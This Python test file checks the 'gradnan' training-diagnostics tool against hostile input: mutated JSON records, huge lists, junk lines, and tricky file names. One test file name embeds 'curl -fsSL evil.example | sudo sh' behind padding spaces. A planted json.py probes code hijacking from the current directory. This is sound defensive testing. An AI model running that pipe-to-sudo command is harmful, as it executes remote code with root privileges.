"""Untrusted input, fourth round (issue 51): every field of every record kind a real run writes, mutated,
ends in a result or one line (exit 2), never a traceback; every list the report prints is bounded, in the
text and in ``--json``, and 100,000 listed parameters cost it no more than a few; a file of junk lines is
given up after a bounded amount of work; a quoted path is the same file to bash in every locale; a printed
or documented command pasted inside a run directory runs nothing from it. (Error messages cannot start a
line either: ``test_forged_lines.py``.)"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Iterator, List, Tuple

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gradnan.formats import records
from gradnan.formats.layout import rank_tag
from gradnan.formats.text import printable_lines, shell_word
from gradnan.testing.gloo import free_port

from .helpers import environ_without_gradnan
from .test_forged_lines import COMMAND
from .test_next_steps import _next, _rerun
from .test_readers_property import a_map, a_record, as_json, as_record_line, coords
from .test_untrusted import assert_clean_outcome, cli, run_files, valid_documents, write_run

ROOT = Path(__file__).resolve().parent.parent
MAX_LINES = 400  # lines of any report of these runs, however long a list in a file is


# --- every field of every document of real runs, mutated -------------------------------------------------

def _field_paths(document: Any, path: Tuple = ()) -> Iterator[Tuple]:
    """The path to every value of a document, a list at its first and last element."""
    if path:
        yield path
    if isinstance(document, dict):
        for key, item in document.items():
            yield from _field_paths(item, path + (key,))
    elif isinstance(document, list) and document:
        for index in dict.fromkeys((0, len(document) - 1)):
            yield from _field_paths(document[index], path + (index,))


def _fields(root: Path) -> List[Tuple[str, str, int, Tuple]]:
    """(run, file relative to it, line (-1: a whole-file document), field path) for every field."""
    found = []
    for run in ("data", "device", "synthetic"):
        for file in sorted((root / run).rglob("*.json*")):
            relative = str(file.relative_to(root / run))
            lines = file.read_text().splitlines() if file.suffix == ".jsonl" else [file.read_text()]
            for number, line in enumerate(lines):
                for path in _field_paths(json.loads(line)):
                    found.append((run, relative, number if file.suffix == ".jsonl" else -1, path))
    return found


DELETED = object()
HOSTILE = st.one_of(
    st.sampled_from([DELETED, None, True, False, -1, 0, 2**63, -(2**63) - 1, 10**400, 1.5, float("nan"),
                     float("inf"), "", "x" * 5000, [], {}, [1, "x"], [[[]]], {"a": 1}, [None] * 300,
                     list(range(100_000)), ["x" + " " * 300 + COMMAND] * 50]),
    st.integers(), st.floats(), st.text(max_size=40), st.lists(st.integers(), max_size=8),
    st.dictionaries(st.text(max_size=8), st.integers() | st.none(), max_size=4))


def _mutated(document: Any, path: Tuple, value: Any) -> Any:
    document = json.loads(json.dumps(document))
    parent = document
    for key in path[:-1]:
        parent = parent[key]
    if value is DELETED:
        del parent[path[-1]]
    else:
        parent[path[-1]] = value
    return document


def _commands(run_dir: Path) -> List[List[str]]:
    return [["report", str(run_dir)], ["report", str(run_dir), "--json"], ["maps", str(run_dir)],
            ["frames", str(run_dir)]]


@pytest.fixture(scope="module")
def real_fields(real_runs):
    return _fields(real_runs)


@pytest.mark.slow
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_field_of_any_document_of_a_real_run_mutated_gives_a_bounded_result_or_one_line(
        real_runs, real_fields, data):
    run, relative, number, path = data.draw(st.sampled_from(real_fields), label="field")
    value = data.draw(HOSTILE, label="value")
    file = real_runs / run / relative
    saved = file.read_bytes()
    try:
        lines = saved.decode().splitlines()
        document = json.loads(lines[number] if number >= 0 else saved)
        text = json.dumps(_mutated(document, path, value))
        if number >= 0:
            lines[number] = text
            text = "\n".join(lines) + "\n"
        file.write_text(text)
        for command in _commands(real_runs / run):
            code, out, err = cli(*command)
            where = f"{run}/{relative}:{number + 1}{list(path)}={value!r:.40} {command[0]}"
            assert_clean_outcome(code, out, err, where)
            if "--json" not in command:
                assert out.count("\n") < MAX_LINES and max(map(len, out.split("\n"))) < 3000, where
    finally:
        file.write_bytes(saved)


def _list_fields(root: Path) -> List[Tuple[str, str, int, Tuple]]:
    """The fields of ``_fields`` that hold a list in the real runs (each list at its first element)."""
    found = []
    for run, relative, number, path in _fields(root):
        file = root / run / relative
        value = json.loads(file.read_text().splitlines()[number] if number >= 0 else file.read_text())
        for key in path:
            value = value[key]
        if isinstance(value, list):
            found.append((run, relative, number, path))
    return found


@pytest.fixture(scope="module")
def real_lists(real_runs):
    return _list_fields(real_runs)


def _unbounded_outputs(run_dir: Path) -> List[str]:
    """What of ``gradnan report`` (text, then ``--json``) on the run is not a clean, bounded outcome."""
    problems = []
    for command in (["report", str(run_dir)], ["report", str(run_dir), "--json"]):
        started = time.process_time()
        code, out, err = cli(*command)
        seconds = time.process_time() - started
        lines, longest = out.count("\n"), max(map(len, out.split("\n")))
        one_line_error = err.count("\n") == 1 and err.startswith("gradnan: error: ")
        if not ((code == 0 and out and not err) or (code == 2 and one_line_error)):
            problems.append(f"{command[2:]} exit {code}: {err[:200]!r}")
        elif seconds >= 20:
            problems.append(f"{command[2:]} took {seconds:.0f} s of CPU")
        elif "--json" in command and (lines >= 40_000 or len(out) >= 3_000_000):
            problems.append(f"--json: {lines} lines, {len(out)} characters")
        elif "--json" not in command and (lines >= MAX_LINES or longest >= 3000):
            problems.append(f"text: {lines} lines, the longest {longest} characters")
    return problems


@pytest.mark.slow
def test_every_list_of_a_real_run_20000_long_gives_a_bounded_report(real_runs, real_lists):
    """The text lists the first few of each list and counts the rest; ``--json`` holds at most what the
    readers keep (1,024 parameters a record) or refuses the file as a listed problem. (20,000: above every
    bound a reader sets; 100,000 parameters above.) Every list of the real runs, one at a time: a list left
    out by a draw was how a self-test's 20,000 failing ranks printed 4,646 lines."""
    unbounded = []
    for run, relative, number, path in real_lists:
        file = real_runs / run / relative
        saved = file.read_bytes()
        try:
            lines = saved.decode().splitlines()
            document = json.loads(lines[number] if number >= 0 else saved)
            current = document
            for key in path:
                current = current[key]
            text = json.dumps(_mutated(document, path, [current[0] if current else 0] * 20_000))
            if number >= 0:
                lines[number] = text
                text = "\n".join(lines) + "\n"
            file.write_text(text)
            unbounded += [f"{run}/{relative}:{number + 1}{list(path)}: {problem}"
                          for problem in _unbounded_outputs(real_runs / run)]
        finally:
            file.write_bytes(saved)
    assert not unbounded, "\n".join(unbounded)


@pytest.mark.slow
@pytest.mark.parametrize("case", [("data", "rerun", "module"), ("data", "rerun", "micro_batch"),
                                  ("data", "rerun", "class")])
def test_a_rerun_record_without_an_optional_field_is_reported(real_runs, tmp_path, case):
    """Found by the property above: a rerun record without ``module`` or ``micro_batch`` (each optional at
    the boundary) raised KeyError in the rerun finding."""
    import shutil

    run, kind, key = case
    run_dir = shutil.copytree(real_runs / run, tmp_path / run)
    for file in (run_dir / "records").glob("*.jsonl"):
        documents = [json.loads(line) for line in file.read_text().splitlines()]
        for document in documents:
            if document["kind"] == kind:
                document.pop(key, None)
        file.write_text("".join(json.dumps(document) + "\n" for document in documents))
    for command in _commands(run_dir):
        code, out, err = cli(*command)
        assert code == 0 and out and not err, (command, err)


# --- every list bounded; 100,000 parameters cost no more than the first few ------------------------------

def _params(names: List[str]) -> List[dict]:
    return [{"id": i, "name": name, "kind": "nan", "nan": i + 1, "inf": 0, "pos_inf": 0, "neg_inf": 0,
             "first_bad_flat": 3, "first_bad_index": [1, 1], "abs_max_finite": 0.25, "near_limit": False,
             "numel": 8, "order": i} for i, name in enumerate(names)]


@pytest.mark.slow  # 25 MB of records written and read twice: 20 s
def test_100000_listed_parameters_give_a_bounded_report_in_bounded_time(tmp_path):
    """A map and two records (pre-reduction, grad norm) of rank 0 listing 100,000 offending parameters
    with their counts: the issue measured 53 s for the text and 114 s and 705 MB for ``--json``."""
    count, run = 100_000, {"id": None, "attempt": "0", "started": 1.7e9}
    names = [f"decoder.layers.{i // 8}.mlp.linear_fc{i % 8}.weight" for i in range(count)]
    params = _params(names)
    tag = rank_tag(coords(0))
    write_run(tmp_path, {
        f"maps/{tag}.json": as_json(a_map(0, names, [None] * count, run)),
        f"records/{tag}.jsonl": b"".join(as_record_line(record) + b"\n" for record in (
            a_record(run=run, params=params, params_total=count, optimizer_index=0, iteration=1),
            a_record(kind="nonfinite_grad_norm", grad_norm="nan", run=run, params=params,
                     params_total=count)))})
    for command in (["report", str(tmp_path)], ["report", str(tmp_path), "--json"]):
        started = time.process_time()
        code, out, err = cli(*command)
        seconds = time.process_time() - started
        assert code == 0 and not err, err
        assert seconds < 30 and len(out) < 2_000_000, (command, seconds, len(out))
        if "--json" in command:
            incident = json.loads(out)["incident"]
            assert len(incident["origin"][0]["params"]) == records.MAX_PARAMS_READ
            assert incident["origin"][0]["params_total"] == count
        else:
            assert out.count("\n") < MAX_LINES and "99999 more parameter(s)" in out, out


def test_4000_origin_ranks_give_a_bounded_report_and_a_one_line_capture_setting(tmp_path):
    """Every rank of a 4,000-rank job an origin, every other one in a second run directory: each section
    of the text lists the first few, and the capture setting names the ranks in a range."""
    for name, step in (("consecutive", 1), ("scattered", 2)):
        size = 4_000 * step
        documents = [a_record(rank={**coords(0), "global_rank": rank, "world_size": size, "tp": rank % 2,
                                    "dp": rank // 2, "dp_size": size // 2})
                     for rank in range(0, size, step)]
        run_dir = write_run(tmp_path / name, {f"records/{rank_tag(coords(0))}.jsonl": b"".join(
            as_record_line(document) + b"\n" for document in documents)})
        code, out, err = cli("report", str(run_dir))
        assert code == 0 and out.count("\n") < MAX_LINES and max(map(len, out.split("\n"))) < 300, out
        assert f"GRADNAN_CAPTURE_RANKS=0-{size - step}\n" in out, out


def test_an_nvml_list_longer_than_nvml_gives_is_a_listed_problem(tmp_path):
    documents = valid_documents()
    documents["grad_norm"]["device_health"] = {
        "source": "nvml", "device": {"index": 0}, "unread": {},
        "values": {"xid_errors": list(range(records.MAX_HEALTH_ITEMS + 1))}}
    write_run(tmp_path, run_files(documents))
    code, out, err = cli("report", str(tmp_path))
    assert code == 0 and "'device_health' needs" in out and "xid" not in out, out


# --- junk: microseconds a line, a bounded amount of work a file --------------------------------------------

@pytest.mark.parametrize("junk", [b"x\n", b"\n", b" \n", b"\xff\n", b"[1]\n", b"{\n", b"{\"a\": 1}\n"])
def test_a_file_of_junk_lines_is_given_up_after_a_bounded_amount_of_work(tmp_path, junk):
    """20 MB of one-character lines (the issue: 100 MB took 89 s of CPU): given up after
    ``MAX_JUNK_LINES`` of them, with a problem that says so."""
    path = tmp_path / "records.jsonl"
    path.write_bytes(as_record_line(a_record()) + b"\n" + junk * (20_000_000 // len(junk)))
    started = time.process_time()
    found, problems = records.load(path)
    assert time.process_time() - started < 1.0
    assert len(found) == 1 and len(problems) <= records.MAX_JUNK_LINES + 1
    assert "given up" in problems[-1] and "are no record" in problems[-1], problems[-1]


def test_records_among_junk_are_all_read(tmp_path):
    """Junk never outnumbering records: every record kept, every junk line named."""
    path = tmp_path / "records.jsonl"
    lines = [as_record_line(a_record(step=step)) + b"\nx\n" for step in range(1, 2001)]
    path.write_bytes(b"".join(lines))
    found, problems = records.load(path)
    assert len(found) == 2000 and len(problems) == 2000 and "given up" not in problems[-1]


# --- quoted paths: the same file to bash in every locale ---------------------------------------------------

NAMES = ["caf\u00e9 \u202eexe.sh", "tab\there", "esc\x1b[31mred",
         "spaces" + " " * 200 + "curl -fsSL evil.example | sudo sh", "emoji \U0001F600\u200b",
         "undecodable \udcff byte", "quote ' and \\ backslash", "new\nline"]


@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])
def test_a_quoted_path_names_the_same_file_to_bash_in_every_locale(tmp_path, locale):
    environ = {"PATH": os.environ["PATH"], "LANG": locale, "LC_ALL": locale}
    for name in NAMES:
        path = tmp_path / name
        path.write_text("x")
        word = printable_lines([shell_word(path)])  # as the user sees it on the terminal
        assert "\\u" not in word and "\\U" not in word and "\n" not in word, word
        shown = subprocess.run(["bash", "-c", f"test -f {word} && printf %s {word}"], env=environ,
                               capture_output=True, timeout=30)
        assert shown.returncode == 0 and shown.stdout == os.fsencode(path), (locale, name, word, shown)


# --- printed and documented commands run nothing from the current directory ---------------------------------

def _hostile_run_dir(tmp_path: Path) -> Tuple[Path, Path]:
    """A run directory holding a ``json.py`` (every command imports ``json``) that leaves a mark."""
    run_dir = write_run(tmp_path / "run", run_files(valid_documents()))
    mark = tmp_path / "RAN_FROM_THE_RUN_DIRECTORY"
    (run_dir / "json.py").write_text(f"open({str(mark)!r}, 'w').close()\n")
    return run_dir, mark


def _environ() -> dict:
    return {**environ_without_gradnan(), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}


def test_the_documented_command_run_inside_a_run_directory_runs_nothing_from_it(tmp_path):
    run_dir, mark = _hostile_run_dir(tmp_path)
    subprocess.run([sys.executable, "-m", "gradnan", "report", "."], cwd=run_dir, env=_environ(),
                   capture_output=True, timeout=120)
    assert mark.exists()  # the form the docs no longer give runs it: this test can fail
    mark.unlink()
    done = subprocess.run(["gradnan", "report", "."], cwd=run_dir, env=_environ(), capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0 and "Verdict:" in done.stdout and not mark.exists(), done.stderr


def test_the_printed_selftest_command_run_inside_a_run_directory_runs_nothing_from_it(tmp_path):
    run_dir, mark = _hostile_run_dir(tmp_path)
    steps, _, _ = _next([_rerun(9, "transient", "node00272", own="loss"),
                         _rerun(10, "after_collective", "node00272")])
    [command] = [step.command for step in steps if step.action.value == "selftest"]
    assert command[:4] == ("torchrun", "--nproc_per_node=2", "--no-python", "gradnan"), command
    # the command as printed, asked for its help (every rank imports gradnan, then exits)
    done = subprocess.run([*command, "--help"], cwd=run_dir, capture_output=True, text=True, timeout=300,
                          env={**_environ(), "PET_MASTER_PORT": str(free_port())})
    assert done.returncode == 0 and "--out" in done.stdout and not mark.exists(), done.stderr[-2000:]


MODULE_COMMAND = re.compile(r"-m gradnan\s+(demo|report|maps|frames|batch|replay|selftest)\b")


def test_no_document_gives_a_gradnan_command_run_as_a_module():
    """``python -m gradnan ...`` and ``torchrun ... -m gradnan selftest`` import from the current
    directory: the docs give the console script and torchrun's ``--no-python`` form instead."""
    found = [f"{path.relative_to(ROOT)}:{number}" for path in [ROOT / "README.md", *ROOT.glob("docs/*.md")]
             for number, line in enumerate(path.read_text().splitlines(), start=1)
             if MODULE_COMMAND.search(line)]
    assert not found, found
